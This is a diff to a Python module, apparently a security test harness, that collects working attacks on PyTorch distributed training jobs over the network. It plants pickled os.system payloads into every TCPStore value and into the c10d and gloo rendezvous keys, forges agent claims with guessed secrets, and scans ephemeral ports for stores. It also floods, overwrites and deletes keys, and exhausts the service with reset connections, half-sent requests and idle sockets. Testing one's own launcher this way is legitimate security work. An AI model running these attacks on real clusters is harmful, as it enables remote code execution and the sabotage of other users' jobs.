@@ -1,7 +1,9 @@
 """What somebody can do who reaches the ports of another user's job: one function each.
 
-Every attack takes a host and port, and some a word more; it returns what it did. Nothing here knows
-the run's secret, or any file of it: only this package, and what the network gives away.
+Every attack takes a host and port, and some a word more. It returns how often it was tried and how
+often answered as an agent would be, and raises where it could not be tried. Errands return
+what was found. Nothing here knows the run's secret, or any file of it: only this package, the job's
+number, and what the network gives away.
 """
 
 from __future__ import annotations
@@ -11,7 +13,12 @@ import contextlib
 import os
 import pickle
 import resource
+import select
 import socket
+import struct
+import threading
+import time
+from collections import Counter
 from collections.abc import Callable, Iterator
 from datetime import timedelta
 from functools import cache
@@ -21,23 +28,36 @@ import msgspec
 
 from fsdpkit.launching.board import Answer, Letter, Order, Said
 from fsdpkit.launching.policy import Report
-from fsdpkit.launching.signing import GREETING_BYTES, Claim, Frames, Keys
+from fsdpkit.launching.signing import GREETING_BYTES, MAGIC, Claim, Frames, Keys
 
 TIMEOUT_S = 3
 FLOOD_KEYS, FLOOD_VALUE = 2000, b"x" * 50_000
 HELLO = bytes([0]) + (0x3C85F7CE).to_bytes(4, "little")  # torch's own, checked first
-EPHEMERAL = (32768, 61000)
+EPHEMERAL = range(32768, 61000)
+AT_A_TIME = 400
+PING, ANSWER_S = (7).to_bytes(4, "little"), 1.0
+C10D_KEYS = ("torch.rendezvous", "rdzv/torch.rendezvous.1_0", "torch.rendezvous.1_0_0")
+GLOO_KEYS = tuple(f"default_pg/0//cpu//0/{rank}" for rank in range(4))
+Done = tuple[int, int]
+"""How often it was tried, and answered."""
 _held: list[socket.socket] = []
 """Connections that stay open until `let_go`."""
+_over = threading.Event()
+"""Ends what goes on in the background."""
+_busy: list[threading.Thread] = []
+_times: Counter[str] = Counter()
+"""How often each of them did what it does."""
 
 
-@cache
-def connect(host: str, port: int) -> Any:
+def new_client(host: str, port: int) -> Any:
     from torch.distributed import TCPStore
 
     return TCPStore(
         host, port, wait_for_workers=False, timeout=timedelta(seconds=TIMEOUT_S), use_libuv=True
     )
+
+
+connect = cache(new_client)
 
 
 def contents(host: str, port: int) -> dict[str, bytes]:
@@ -50,7 +70,7 @@ def contents(host: str, port: int) -> dict[str, bytes]:
     return found
 
 
-# Code in what torch's rendezvous reads
+# Code in what somebody may unpickle
 
 
 class _Planted:
@@ -61,17 +81,21 @@ class _Planted:
         return os.system, (self.command,)
 
 
-def plant_pickle(host: str, port: int, marker: str) -> int:
-    """Whoever loads one runs a command: in place of every value, and where c10d has its state."""
+def plant_pickle(host: str, port: int, marker: str) -> Done:
+    """Whoever loads one runs a command: in place of every value, where c10d has its state, and
+    where ranks of gloo leave their addresses, before they do."""
     store, code = connect(host, port), pickle.dumps(_Planted(marker))
     planted = 0
     for key, value in contents(host, port).items():
         store.set(key, _with_pickle(value, code) or code)
         planted += 1
-    for key in ("torch.rendezvous", "rdzv/torch.rendezvous.1_0", "torch.rendezvous.1_0_0"):
+    for key in C10D_KEYS:
         store.set(key, base64.b64encode(code))
         planted += 1
-    return planted
+    for key in GLOO_KEYS:
+        store.set(key, code)
+        planted += 1
+    return planted, 0
 
 
 def _with_pickle(value: bytes, code: bytes) -> bytes | None:
@@ -87,34 +111,39 @@ def _with_pickle(value: bytes, code: bytes) -> bytes | None:
 # At the agents' door, in their own language
 
 
-def forge(host: str, port: int) -> int:
+def forge(host: str, port: int, attempt: str, known: str = "") -> Done:
     """Claims to be an agent by whoever has the package and not the secret; orders and reports that
-    follow at once, as if it had been granted. How many got an answer."""
+    follow at once, as if it had been granted. attempt: the right name of it. known: another
+    attempt's secret, in hexadecimal digits."""
     end = msgspec.msgpack.encode(Answer(0, (Order(do="end", status=0),)))
     done = msgspec.msgpack.encode(Letter(0, (Said(1, Report(0, 1, "node2", "done")),), left=True))
-    answered = 0
-    for secret in (bytes(32), b"\xff" * 32, os.urandom(32)):
-        for attempt in ("", "1_0", "none"):
-            for node in (0, 1, 2, 99):
-                keys = Keys(secret, attempt)
+    answers = []
+    first = f"{attempt.partition('_')[0]}_0"
+    for secret in {bytes(32), b"\xff" * 32, os.urandom(32), bytes.fromhex(known)}:
+        for name in {attempt, first, "", "none"}:
+            for node in (0, 1, 2, 99, 2**32 - 1):
+                keys = Keys(secret, name)
                 with _open(host, port) as connection:
-                    greeting = connection.recv(GREETING_BYTES, socket.MSG_WAITALL)
-                    claim = Claim(keys, node, greeting)
+                    claim = Claim(keys, node, _greeting(connection))
                     frames = Frames(sending=keys.sign(b"up"), receiving=keys.sign(b"down"))
                     said = claim.claim + frames.seal(end) + frames.seal(done)
-                    answered += _answers(connection, said)
-    return answered
+                    answers.append(_answers(connection, said))
+    return len(answers), sum(answers)
 
 
-def echo(host: str, port: int) -> int:
+def echo(host: str, port: int) -> Done:
     """The head's own words back to it, and one connection's to another."""
-    answered = 0
+    answers = []
     for _ in range(10):
         with _open(host, port) as one, _open(host, port) as other:
-            greetings = [c.recv(GREETING_BYTES, socket.MSG_WAITALL) for c in (one, other)]
-            answered += _answers(one, greetings[1] + bytes(100))
-            answered += _answers(other, greetings[0] * 3)
-    return answered
+            greetings = [_greeting(connection) for connection in (one, other)]
+            answers.append(_answers(one, greetings[1] + bytes(100)))
+            answers.append(_answers(other, greetings[0] * 3))
+    return len(answers), sum(answers)
+
+
+def _greeting(connection: socket.socket) -> bytes:
+    return connection.recv(GREETING_BYTES, socket.MSG_WAITALL)
 
 
 def _answers(connection: socket.socket, said: bytes) -> bool:
@@ -124,13 +153,24 @@ def _answers(connection: socket.socket, said: bytes) -> bool:
     return False
 
 
-def speak_torch(host: str, port: int) -> int:
+def speak_torch(host: str, port: int) -> Done:
     """As a client of a TCPStore."""
-    try:
-        connect(host, port)
-    except Exception:
-        return 0
-    return 1
+    from torch.distributed import DistError
+
+    with contextlib.suppress(DistError):
+        new_client(host, port)
+        return 1, 1
+    return 1, 0
+
+
+def record(_host: str, _port: int) -> Done:
+    """What others send, to be sent again: nobody but root hears it."""
+    kinds = [(socket.AF_PACKET, socket.SOCK_RAW, 3), (socket.AF_INET, socket.SOCK_RAW, 6)]
+    heard = 0
+    for kind in kinds:
+        with contextlib.suppress(PermissionError), socket.socket(*kind):
+            heard += 1
+    return len(kinds), heard
 
 
 # In a store
@@ -138,35 +178,65 @@ def speak_torch(host: str, port: int) -> int:
 
 def find_stores(host: str, port: int) -> list[int]:
     """Ports of this host where a TCPStore answers, but for the one that is known already."""
+    with contextlib.ExitStack() as opened:
+        asked = {}
+        for number in _open_ports(host, EPHEMERAL):
+            with contextlib.suppress(OSError):
+                probe = opened.enter_context(_open(host, number))
+                probe.sendall(HELLO + bytes([13]) + PING)
+                asked[number] = probe
+        time.sleep(ANSWER_S)
+        return [number for number, probe in asked.items() if number != port and _pongs(probe)]
+
+
+def _pongs(probe: socket.socket) -> bool:
+    probe.setblocking(False)
+    with contextlib.suppress(OSError):
+        return probe.recv(len(PING)) == PING
+    return False
+
+
+def _open_ports(host: str, numbers: range) -> list[int]:
+    """Those that take a connection, many asked at a time."""
     found = []
-    for number in range(*EPHEMERAL):
-        with contextlib.suppress(OSError), socket.socket() as probe:
-            probe.settimeout(TIMEOUT_S)
-            if number != port and probe.connect_ex((host, number)) == 0:
-                probe.sendall(HELLO + bytes([13]) + (7).to_bytes(4, "little"))  # a ping
-                if probe.recv(4) == (7).to_bytes(4, "little"):
-                    found.append(number)
+    for start in range(numbers.start, numbers.stop, AT_A_TIME):
+        with contextlib.ExitStack() as opened:
+            waiting = select.poll()
+            asked = {}
+            for number in numbers[start - numbers.start :][:AT_A_TIME]:
+                probe = opened.enter_context(socket.socket())
+                probe.setblocking(False)
+                probe.connect_ex((host, number))
+                waiting.register(probe, select.POLLOUT)
+                asked[probe.fileno()] = probe, number
+            deadline = time.monotonic() + TIMEOUT_S
+            while asked and (ready := waiting.poll(1000 * max(0, deadline - time.monotonic()))):
+                for descriptor, _ in ready:
+                    waiting.unregister(descriptor)
+                    probe, number = asked.pop(descriptor)
+                    if probe.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
+                        found.append(number)
     return found
 
 
 # Force
 
 
-def delete(host: str, port: int) -> int:
+def delete(host: str, port: int) -> Done:
     store = connect(host, port)
-    return sum(store.delete_key(key) for key in contents(host, port))
+    return sum(store.delete_key(key) for key in contents(host, port)), 0
 
 
-def overwrite(host: str, port: int) -> int:
+def overwrite(host: str, port: int) -> Done:
     """Noise in every key."""
     store = connect(host, port)
     keys = [*contents(host, port)]
     for key in keys:
         store.set(key, os.urandom(64))
-    return len(keys)
+    return len(keys), 0
 
 
-def flood(host: str, port: int) -> int:
+def flood(host: str, port: int) -> Done:
     """A hundred megabytes in two thousand keys, and more behind every key that grows."""
     store = connect(host, port)
     for key, value in contents(host, port).items():
@@ -174,13 +244,52 @@ def flood(host: str, port: int) -> int:
             store.append(key, FLOOD_VALUE)
     for number in range(FLOOD_KEYS):
         store.set(f"flood/{number}", FLOOD_VALUE)
-    return FLOOD_KEYS
+    return FLOOD_KEYS, 0
 
 
-# Below the store
+def spoil(host: str, port: int, marker: str) -> Done:
+    """Code in place of every value as soon as it comes, until `let_go`."""
+    store, code = new_client(host, port), pickle.dumps(_Planted(marker))
+
+    def again() -> int:
+        keys = [key for key in store.list_keys() if key not in C10D_KEYS]
+        for key in keys:
+            store.set(key, code)
+        return len(keys)
+
+    return _keep_on("spoil", again)
 
 
-def idle(host: str, port: int, count: str = "2000") -> int:
+# Below what either speaks
+
+
+def hurry(host: str, port: int) -> Done:
+    """Hundreds of connections a second that end as soon as they are made, until `let_go`."""
+    at_once = struct.pack("ii", 1, 0)  # by a reset, which leaves no port waiting
+
+    def again() -> int:
+        with _open(host, port) as connection:
+            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, at_once)
+        return 1
+
+    return _keep_on("hurry", again)
+
+
+def _keep_on(name: str, action: Callable[[], int]) -> Done:
+    """In the background; how often is `let_go`'s to say."""
+
+    def run() -> None:
+        while not _over.wait(0.001):
+            with contextlib.suppress(OSError, RuntimeError):
+                _times[name] += action()
+
+    _over.clear()
+    _busy.append(threading.Thread(target=run, daemon=True))
+    _busy[-1].start()
+    return 0, 0
+
+
+def idle(host: str, port: int, count: str = "2000") -> Done:
     """Connections that say nothing."""
     _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
@@ -189,17 +298,23 @@ def idle(host: str, port: int, count: str = "2000") -> int:
         for _ in range(int(count)):
             _held.append(_open(host, port))
             opened += 1
-    return opened
+    return opened, 0
 
 
-def slow(host: str, port: int) -> int:
-    """Requests of which half is sent, and an announcement of a string without end."""
-    for sent in _half_requests():
-        for _ in range(5):
-            connection = _open(host, port)
-            connection.sendall(sent)
-            _held.append(connection)
-    return len(_held)
+def slow(host: str, port: int) -> Done:
+    """Claims and requests of which half is sent, and an announcement of a string without end."""
+    halves = [*_half_claims(), *_half_requests()] * 5
+    for sent in halves:
+        connection = _open(host, port)
+        connection.sendall(sent)
+        _held.append(connection)
+    return len(halves), 0
+
+
+def _half_claims() -> Iterator[bytes]:
+    whole = Claim(Keys(bytes(32), ""), 1, MAGIC + bytes(GREETING_BYTES - len(MAGIC))).claim
+    for length in (1, len(MAGIC), len(whole) - 1):
+        yield whole[:length]
 
 
 def _half_requests() -> Iterator[bytes]:
@@ -209,36 +324,34 @@ def _half_requests() -> Iterator[bytes]:
         yield HELLO + bytes([request]) + (2**63 - 1).to_bytes(8, "little") + b"key"
 
 
-def noise(host: str, port: int) -> int:
+def noise(host: str, port: int) -> Done:
     """Bytes of no protocol, and of others."""
     words = [os.urandom(4096), b"GET / HTTP/1.0\r\n\r\n", b"\x16\x03\x01\x02\x00", b"\xff" * 65536]
     for sent in words * 5:
-        with contextlib.suppress(OSError), _open(host, port) as connection:
+        with _open(host, port) as connection, contextlib.suppress(OSError):
             connection.sendall(sent)
-    return len(words) * 5
+    return len(words) * 5, 0
 
 
-def let_go(_host: str, _port: int) -> int:
-    count = len(_held)
+def let_go(_host: str, _port: int) -> dict[str, int]:
+    """End what goes on and close what is open; how often the former happened, by attack."""
+    _over.set()
+    while _busy:
+        _busy.pop().join()
     while _held:
         _held.pop().close()
-    return count
+    times = dict(_times)
+    _times.clear()
+    return times
 
 
 def _open(host: str, port: int) -> socket.socket:
     return socket.create_connection((host, port), timeout=TIMEOUT_S)
 
 
-def reaches(host: str, port: int) -> bool:
-    with contextlib.suppress(OSError), _open(host, port):
-        return True
-    return False
-
-
+AT_THE_DOOR = (forge, echo, speak_torch, record, noise, slow, idle, hurry)
+IN_THE_STORE = (plant_pickle, spoil, delete, overwrite, flood, noise, slow, idle)
+ERRANDS = (find_stores, let_go)
 ATTACKS: dict[str, Callable[..., Any]] = {
-    attack.__name__: attack
-    for attack in (
-        *(forge, echo, speak_torch, noise, slow, idle, let_go, reaches),
-        *(find_stores, plant_pickle, delete, overwrite, flood),
-    )
+    each.__name__: each for each in (*AT_THE_DOOR, *IN_THE_STORE, *ERRANDS)
 }
